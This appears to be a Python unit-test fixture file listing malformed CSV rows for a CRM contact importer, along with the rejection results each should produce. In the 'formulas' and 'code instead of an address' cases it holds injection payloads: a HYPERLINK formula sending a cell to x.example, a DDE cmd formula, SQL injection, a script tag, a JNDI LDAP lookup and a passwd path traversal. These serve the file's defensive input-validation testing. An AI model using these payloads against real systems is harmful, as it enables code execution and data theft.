"""Rows in order, with fields that people, spreadsheets and attackers have written."""

from __future__ import annotations

import hashlib

from audience_onboarding.crm.profiles import Identifier, SourceColumn
from audience_onboarding.errors import EmptySourceError
from tests.unit.crm.malformed.case import GOOD, Case, Fails, Gives, csv_bytes, mail, phone, table

A, B = mail(1), mail(2)
PHONE = phone(1)


def sha256(text: str) -> str:
    """In lower case."""
    return hashlib.sha256(text.encode()).hexdigest()


NOTHING = sha256("")
HASHED = {Identifier.EMAIL: SourceColumn("email", hashed=True), Identifier.PHONE: SourceColumn("phone")}


def bad_phones(*phones: str) -> bytes:
    """A person each, with an address that is good."""
    return table(*(f"{mail(number)},{text}" for number, text in enumerate(phones, 1)))


def bad_emails(*emails: str) -> bytes:
    """A person each, with a number that is good."""
    return table(*(f"{text},{phone(number)}" for number, text in enumerate(emails, 1)))


def phones_invalid(count: int) -> Gives:
    """All are sent, without their phones."""
    return Gives(count, count, invalid={"phone": {"invalid_phone": count}})


def emails_invalid(count: int) -> Gives:
    """All are sent, without their addresses."""
    return Gives(count, count, invalid={"email": {"invalid_email": count}})


def same(*rows: str) -> bytes:
    """The plain row first, then the same person in other spellings."""
    return table(f"{A},{PHONE}", *rows)


def all_same(count: int) -> Gives:
    """One is sent."""
    return Gives(count, 1, duplicates=count - 1)


NO_ADDRESS = [
    "N/A",
    "null",
    "None",
    "-",
    "@",
    "NaN",
    "n.v.t.",
    "geen",
    "0",
    "TRUE",
    "undefined",
    "(empty)",
    "xxx",
    "?",
]
NO_PHONE = [
    "N/A",
    "null",
    "-",
    "0",
    "+",
    "000000000",
    "onbekend",
    "0600000000",
    "1",
    "()",
    "+31",
    "112",
    "00",
    "0031",
]

SPREADSHEETS = [
    Case(
        "phones in scientific notation",
        bad_phones("6.12346E+09", "3.16877E+10", '"6,12346E+09"', "6E9"),
        phones_invalid(4),
    ),
    Case(
        "phones as floats",
        bad_phones("687654301.0", '"687654302,0"', "31687654303.00", "nan"),
        phones_invalid(4),
    ),
    Case(
        "phones as floats, in a country of numbers of any length",
        bad_phones("1711234567.0", "491711234568.0", "3012345678.0"),
        phones_invalid(3),
        settings={"country": "DE"},
    ),
    Case("phones without the zero that a spreadsheet ate", same(f"{A},{PHONE[1:]}"), all_same(2)),
    Case("phones with thousands separators", bad_phones('"687,654,301"', "'687654302"), phones_invalid(2)),
    Case("phones as dates", bad_phones("6-Dec", "1987-06-05", "05/06/1987 00:00"), phones_invalid(3)),
    Case(
        "errors of a spreadsheet",
        bad_phones("#N/A", "#REF!", "#NAME?", "########", "#VALUE!"),
        phones_invalid(5),
    ),
    Case(
        "formulas",
        table(
            f'"=HYPERLINK(""http://x.example?""&A1,""{A}"")",{PHONE}',
            f"=cmd|'/C calc'!A0,{phone(2)}",
            f"@SUM(1+1),{phone(3)}",
        ),
        emails_invalid(3),
    ),
    Case("formulas as phones", bad_phones(f"={PHONE}", "+31+687654302", "-1+1", "=1+1"), phones_invalid(4)),
    Case("tabs around fields", same(f"\t{A}\t,\t{PHONE}\t"), all_same(2)),
]

PHONES = [
    Case("no phone", bad_phones(*NO_PHONE), phones_invalid(len(NO_PHONE))),
    Case(
        "phones of one digit too few and too many",
        bad_phones("068765430", "06876543012", "+3168765430"),
        phones_invalid(3),
    ),
    Case(
        "phones with an extension",
        bad_phones("0687654301 ext 5", "0201234567x12", "0687654301;ext=5", "tel. 3"),
        phones_invalid(4),
    ),
    Case(
        "two phones in a field",
        bad_phones(
            "0687654301/0687654302",
            "0687654301 / 0687654302",
            "0687654301 of 0687654302",
            '"0687654301, 0687654302"',
        ),
        phones_invalid(4),
    ),
    Case("a phone with (0)", same(f"{A},+31 (0)6 {PHONE[2:]}", f"{A},0031(0){PHONE[1:]}"), all_same(3)),
    Case(
        "a phone in brackets, dots and dashes",
        same(
            f"{A},(06) {PHONE[2:]}",
            f"{A},06.{PHONE[2:]}",
            f"{A},06\u2013{PHONE[2:]}",
            f"{A},31-6/{PHONE[2:]}",
        ),
        all_same(5),
    ),
    Case(
        "digits of full width",
        same(f"{A}," + "".join(chr(ord(digit) + 0xFEE0) for digit in PHONE)),
        all_same(2),
    ),
    Case(
        "Arabic digits",
        same(f"{A}," + "".join(chr(ord(digit) - 48 + 0x0660) for digit in PHONE)),
        all_same(2),
    ),
    Case(
        "phones with direction marks",
        same(f"{A},\u202a{PHONE}\u202c", f"{A},\u200e+31{PHONE[1:]}\u200f"),
        all_same(3),
    ),
    Case(
        "superscripts, fractions and digits in circles",
        bad_phones("06876543\u00b9\u00b2", "06876543\u2460\u2461", "0687654\u00bd1"),
        phones_invalid(3),
    ),
    Case("a letter O for a zero", bad_phones("O687654301", "06876543O1", "06876543l1"), phones_invalid(3)),
    Case("a phone of 10,000 digits", bad_phones("06" + "8" * 10_000, "0" * 10_000), phones_invalid(2)),
    Case(
        "another country's phones, with and without plus",
        table(f"{A},+4915112345678", f"{B},015112345678"),
        Gives(2, 2, invalid={"phone": {"invalid_phone": 1}}),
    ),
    Case(
        "addresses and phones swapped",
        table(f"{PHONE},{A}", f"{phone(2)},{B}"),
        Fails(EmptySourceError, "invalid_email 2"),
    ),
    Case(
        "tel: links",
        bad_phones("tel:+31687654301", "callto:0687654302", "wa.me/31687654303"),
        phones_invalid(3),
    ),
]

EMAILS = [
    Case("no address", bad_emails(*NO_ADDRESS), emails_invalid(len(NO_ADDRESS))),
    Case(
        "two addresses in a field",
        bad_emails(f"{A};{B}", f"{A} {B}", f'"{A},{B}"', f"{A}/{B}", f"{A}|{B}"),
        emails_invalid(5),
    ),
    Case(
        "mailto: and names",
        bad_emails(f"mailto:{A}", f"Jan <{A}>", f'"""Jan"" <{A}>"', f"<{A}>", f"Email: {A}"),
        emails_invalid(5),
    ),
    Case(
        "dots where none may be",
        bad_emails(
            f".{A}",
            "canary.@leak.example",
            "canary..1@leak.example",
            f"{A}.",
            "canary@.leak.example",
            "canary@leak..example",
        ),
        emails_invalid(6),
    ),
    Case(
        "domains that cannot be",
        bad_emails(
            "canary@leak",
            "canary@-leak.example",
            "canary@leak_.example",
            "canary@127.0.0.1",
            "canary@[127.0.0.1]",
            "canary@leak.example:25",
            "canary@leak.e",
        ),
        emails_invalid(7),
    ),
    Case(
        "no @, or two",
        bad_emails(
            "canary.leak.example",
            "canary@@leak.example",
            "canary@x@leak.example",
            "@leak.example",
            "canary@",
            "canary(at)leak.example",
        ),
        emails_invalid(6),
    ),
    Case(
        "other characters that look like @",
        bad_emails("canary\uff20leak.example", "canary\ufe6bleak.example"),
        emails_invalid(2),
    ),
    Case(
        "letters of full width",
        bad_emails("\uff43anary@leak.example", "canary@leak\uff0eexample", "\ufb01.canary@leak.example"),
        emails_invalid(3),
    ),
    Case("emoji", bad_emails("canary\U0001f600@leak.example", "canary@\u2764.example"), emails_invalid(2)),
    Case(
        "addresses of other scripts",
        table(
            f"\u043f\u043e\u0447\u0442\u0430.canary@leak.example,{PHONE}",
            f"canary@m\u00fcnchen.example,{phone(2)}",
            f"canary@xn--mnchen-3ya.example,{phone(3)}",
        ),
        Gives(3, 3),
    ),
    Case(
        "composed and decomposed", table(f"zo\u00eb.{A},", f"zoe\u0308.{A},", f"ZO\u00cb.{A},"), all_same(3)
    ),
    Case(
        "dotted capital I, sharp s, final sigma",
        table(
            f"\u0130.{A},",
            f"\u00df.{A},",
            "canary.\u03a3\u03a3@leak.example,",
            "canary.\u03c3\u03c2@leak.example,",
        ),
        Gives(4, 3, duplicates=1),
    ),
    Case(
        "invisible characters",
        same(
            f"\u200b{A},{PHONE}",
            f"cana\u00adry.1@leak.example,{PHONE}",
            f"{A}\ufeff,{PHONE}",
            f"\u200f{A},{PHONE}\u2060",
        ),
        all_same(5),
    ),
    Case(
        "no-break and other spaces",
        same(f"\u00a0{A}\u00a0,{PHONE}", f"\u3000{A},{PHONE}\u2009", f"canary .1@leak.example,{PHONE}"),
        all_same(4),
    ),
    Case(
        "Unicode's line separators",
        same(
            f"{A}\u2028,{PHONE}", f"{A}\u0085,{PHONE}\u2029", f"\x0b{A}\x0c,{PHONE}", f"{A}\x1c,{PHONE}\x1e"
        ),
        all_same(5),
    ),
    Case(
        "a line end within a quoted address",
        same(f'"{A}\n",{PHONE}', f'"{A}\r\n","{PHONE}\r\n"'),
        all_same(3),
    ),
    Case(
        "control characters",
        bad_emails(f"\x01{A}", f"{A}\x7f", f"\x1b[31m{A}", "canary\x08.1@leak.example"),
        emails_invalid(4),
    ),
    Case("nuls within addresses", bad_emails("canary\0.1@leak.example", f"\0{A}"), emails_invalid(2)),
    Case("nuls within phones", bad_phones("0687\x00654301", f"{PHONE}\0"), phones_invalid(2)),
    Case(
        "entities and percent signs",
        bad_emails(
            "canary&#64;leak.example",
            "canary%40leak.example",
            "canary&amp;1&lt;@leak.example;",
            "canary=40leak.example",
        ),
        emails_invalid(4),
    ),
    Case(
        "an address of 255 characters, and a local part of 65",
        bad_emails("canary@" + "x" * 60 + (".y" * 94) + "." + "z" * 20, "c" * 65 + "@leak.example"),
        emails_invalid(2),
    ),
    Case(
        "code instead of an address",
        bad_emails(
            "'; DROP TABLE people; --@x.example",
            "<script>alert(1)</script>@x.example",
            "${jndi:ldap://x.example/a}",
            "../../etc/passwd",
        ),
        emails_invalid(4),
    ),
]

HASHES = [
    Case(
        "hashes in columns that should be raw",
        table(
            f"{sha256(A)},{PHONE}", f"{sha256(B).upper()},{phone(2)}", f"{mail(3)},{sha256('31687654303')}"
        ),
        Gives(3, 3, invalid={"email": {"already_hashed": 2}, "phone": {"already_hashed": 1}}, mismatches=3),
    ),
    Case(
        "hashes only, in columns that should be raw",
        table(f"{sha256(A)},{sha256(PHONE)}", f"{sha256(B)},"),
        Fails(EmptySourceError, "already_hashed 2"),
    ),
    Case(
        "raw values in a column that should be hashed",
        table(f"{sha256(A)},{PHONE}", f"{B},{phone(2)}", f"N/A,{phone(3)}"),
        Gives(3, 3, invalid={"email": {"not_hashed": 2}}, mismatches=2),
        columns=HASHED,
    ),
    Case(
        "hashes of both cases",
        table(f"{sha256(A)},{PHONE}", f"{sha256(A).upper()},{PHONE}", f" {sha256(A)} ,{PHONE}"),
        all_same(3),
        columns=HASHED,
    ),
    Case(
        "the hash of nothing",
        table(f"{NOTHING},{PHONE}", f"{NOTHING.upper()},{phone(2)}", f"{sha256(A)},"),
        Gives(3, 3, invalid={"email": {"hash_of_nothing": 2}}),
        columns=HASHED,
    ),
    Case(
        "the hash of nothing in a raw column",
        table(f"{NOTHING},{PHONE}"),
        Gives(1, 1, invalid={"email": {"already_hashed": 1}}, mismatches=1),
    ),
    Case(
        "hashes of other kinds",
        table(
            *(
                f"{hashlib.new(name, A.encode(), usedforsecurity=False).hexdigest()},{phone(number)}"
                for number, name in enumerate(("md5", "sha1", "sha512"))
            )
        ),
        Gives(3, 3, invalid={"email": {"not_hashed": 3}}, mismatches=3),
        columns=HASHED,
    ),
    Case(
        "hashes with 0x, cut, or in base64",
        table(
            f"0x{sha256(A)},{PHONE}",
            f"{sha256(A)[:-1]},{phone(2)}",
            f"{'x' * 43}=,{phone(3)}",
            f"{sha256(A)[:-1]}g,{phone(4)}",
        ),
        Gives(4, 4, invalid={"email": {"not_hashed": 4}}, mismatches=4),
        columns=HASHED,
    ),
    Case(
        "a hash of digits of full width",
        table("\uff10" * 64 + f",{PHONE}"),
        Gives(1, 1, invalid={"email": {"not_hashed": 1}}, mismatches=1),
        columns=HASHED,
    ),
]

WHOLE = [
    Case("one row", table(GOOD[0]), Gives(1, 1)),
    Case("all duplicates", table(*[GOOD[0]] * 1000), Gives(1000, 1, duplicates=999)),
    Case("all invalid", table(*["x,y"] * 1000), Fails(EmptySourceError, "invalid_email 1000")),
    Case("all empty", table(*[","] * 1000), Fails(EmptySourceError, "no_identifier 1000")),
    Case(
        "rows that differ in case and space only",
        same(f"{A.upper()},{PHONE}", f" {A.title()} ,06 {PHONE[2:]}"),
        all_same(3),
    ),
    Case(
        "rows that differ in columns that nobody wants",
        csv_bytes("id,email,phone", *(f"{number},{GOOD[0]}" for number in range(5))),
        Gives(5, 1, duplicates=4),
    ),
    Case(
        "the same address with and without phone",
        table(f"{A},{PHONE}", f"{A},", f",{PHONE}", f"{A},0"),
        Gives(4, 3, duplicates=1, invalid={"phone": {"invalid_phone": 1}}),
    ),
    Case(
        "everything at once",
        table(GOOD[0], GOOD[0], "x,", ",", f"{B},x", "short", f'"{B}"x,1', "", GOOD[1]),
        Gives(
            8,
            3,
            duplicates=1,
            rejected={"invalid_email": 1, "malformed_row": 2, "no_identifier": 1},
            invalid={"phone": {"invalid_phone": 1}},
            malformed=(6, 7),
        ),
    ),
]
